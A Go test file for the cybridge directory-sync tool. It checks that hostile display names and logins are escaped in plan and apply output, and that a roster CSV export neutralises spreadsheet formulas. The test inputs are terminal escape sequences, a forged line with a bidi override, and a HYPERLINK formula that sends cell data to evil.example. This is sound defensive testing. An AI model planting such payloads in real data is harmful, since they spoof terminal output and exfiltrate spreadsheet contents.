package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/cybridge/cybridge/internal/termtext"
)

// hostileEnv is a CSV-sourced cybridge whose exports (in dir/name) carry
// the given replacements of user.csv's text.
type hostileEnv struct {
	t    *testing.T
	dir  string
	vars map[string]string
}

func newHostileEnv(t *testing.T) *hostileEnv {
	dir := t.TempDir()
	return &hostileEnv{t: t, dir: dir, vars: map[string]string{
		"CYBRIDGE_DB":                      filepath.Join(dir, "cybridge.db"),
		"CYBRIDGE_SAFETY_INITIAL_PASSWORD": "welcome-2025",
		"CYBRIDGE_CALENDAR_ENABLED":        "false",
		"CYBRIDGE_SOURCE_KIND":             "csv",
		"CYBRIDGE_CYBOZU_URL":              "https://demo.cybozu.com",
	}}
}

// exports writes the fixture exports to dir/name with every file's text
// edited (old, new pairs: each old replaced everywhere) and returns the
// -csv-dir flag.
func (h *hostileEnv) exports(name string, replace ...string) string {
	return h.exportsWithout(name, nil, replace...)
}

// exportsWithout is exports leaving out the users named in drop.
func (h *hostileEnv) exportsWithout(name string, drop []string, replace ...string) string {
	d := filepath.Join(h.dir, name)
	writeExports(h.t, d, drop...)
	files, _ := filepath.Glob(filepath.Join(d, "*.csv"))
	found := make([]bool, len(replace)/2)
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			h.t.Fatal(err)
		}
		s := string(b)
		for i := 0; i < len(replace); i += 2 {
			if strings.Contains(s, replace[i]) {
				found[i/2] = true
				s = strings.ReplaceAll(s, replace[i], replace[i+1])
			}
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			h.t.Fatal(err)
		}
	}
	for i, ok := range found {
		if !ok {
			h.t.Fatalf("no export file has %q", replace[2*i])
		}
	}
	return "-csv-dir=" + d
}

func (h *hostileEnv) run(args ...string) (code int, stdout, stderr string) {
	var out, errb bytes.Buffer
	code = Main(context.Background(), args, environ(h.vars), strings.NewReader(""), &out, &errb)
	return code, out.String(), errb.String()
}

// A display name with terminal escapes, a line break and a bidi override
// reaches the plan report, the apply report and the errors escaped: the
// deletion after it stays visible and no line is forged (F4).
func TestHostileNamesEscapedInText(t *testing.T) {
	h := newHostileEnv(t)
	hostile := []string{
		"a.shimizu;清水 明日香;", "a.shimizu;\"Shimizu\x1b[8m\x1b]0;pwned\x07\";",
		"a.okada;岡田 愛;", "a.okada;\"Okada\nforged line\r\u202eevil\";"}
	all := h.exports("all", hostile...)
	code, out, errs := h.run("apply", all)
	if code != 0 {
		t.Fatalf("apply: exit %d\n%s%s", code, out, errs)
	}
	for _, s := range []string{out, errs} {
		if !termtext.Safe(s, true) {
			t.Errorf("apply printed a control character:\n%q", s)
		}
		if strings.Contains(s, "\nforged line") {
			t.Errorf("apply printed a forged line:\n%s", s)
		}
	}
	if !strings.Contains(out, `(Shimizu\x1b[8m\x1b]0;pwned\x07)`) || !strings.Contains(out, `(Okada\nforged line\r\u202eevil)`) {
		t.Errorf("the names are not shown escaped:\n%s", out)
	}

	// A plan that deletes after the concealing name: the deletion shows.
	leaver := h.exportsWithout("leaver", []string{"h.sato"}, hostile...)
	code, out, errs = h.run("plan", leaver)
	if !termtext.Safe(out+errs, true) || !strings.Contains(out, "\n  - h.sato ") {
		t.Errorf("plan: exit %d\n%q\n%s", code, out, errs)
	}
}

// A login with a control character is a validation problem from the CSV
// source, shown escaped (the API source goes through the same
// directory.Snapshot.Validate).
func TestControlCharacterInLoginRefused(t *testing.T) {
	h := newHostileEnv(t)
	bad := h.exports("bad", "a.okada", "a.ok\x1b[8mada")
	code, out, errs := h.run("plan", bad)
	if code != 1 {
		t.Fatalf("plan: exit %d, want 1\n%s%s", code, out, errs)
	}
	if !strings.Contains(errs, "[csv_invalid]") || !strings.Contains(errs, `login name "a.ok\x1b[8mada" contains a control character`) {
		t.Errorf("stderr:\n%s", errs)
	}
	if !termtext.Safe(out+errs, true) {
		t.Errorf("printed a control character:\n%q", out+errs)
	}
}

// excelDecode reads a CSV file the way Japanese Excel opens it: UTF-8
// when it starts with a BOM, else Shift_JIS (CP932).
func excelDecode(t *testing.T, b []byte) [][]string {
	t.Helper()
	var text string
	if s, ok := strings.CutPrefix(string(b), "\ufeff"); ok {
		text = s
	} else {
		d, err := japanese.ShiftJIS.NewDecoder().Bytes(b)
		if err != nil {
			t.Fatalf("not Shift_JIS either: %v", err)
		}
		text = string(d)
	}
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// The roster CSV export opens in Excel as Japanese text, and a member
// named =HYPERLINK(…) (or any cell starting = + - @) is exported as text
// (F9).
func TestRosterCSVExportForExcel(t *testing.T) {
	h := newHostileEnv(t)
	all := h.exports("all",
		"a.shimizu;清水 明日香;", `a.shimizu;"=HYPERLINK(""http://evil.example/?""&A1,""click"")";`,
		"a.okada;岡田 愛;", "a.okada;@SUM(1);")
	if code, out, errs := h.run("apply", all); code != 0 {
		t.Fatalf("apply: exit %d\n%s%s", code, out, errs)
	}
	_, out, _ := h.run("roster", "export", "-format", "csv")
	names := map[string]string{}
	for _, r := range excelDecode(t, []byte(out))[1:] {
		names[r[0]] = r[1]
	}
	for login, want := range map[string]string{
		"a.shimizu": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"a.okada":   "'@SUM(1)",
		"t.yamada":  "山田 太郎",
	} {
		if names[login] != want {
			t.Errorf("%s's name as Excel reads it = %q, want %q", login, names[login], want)
		}
	}
}
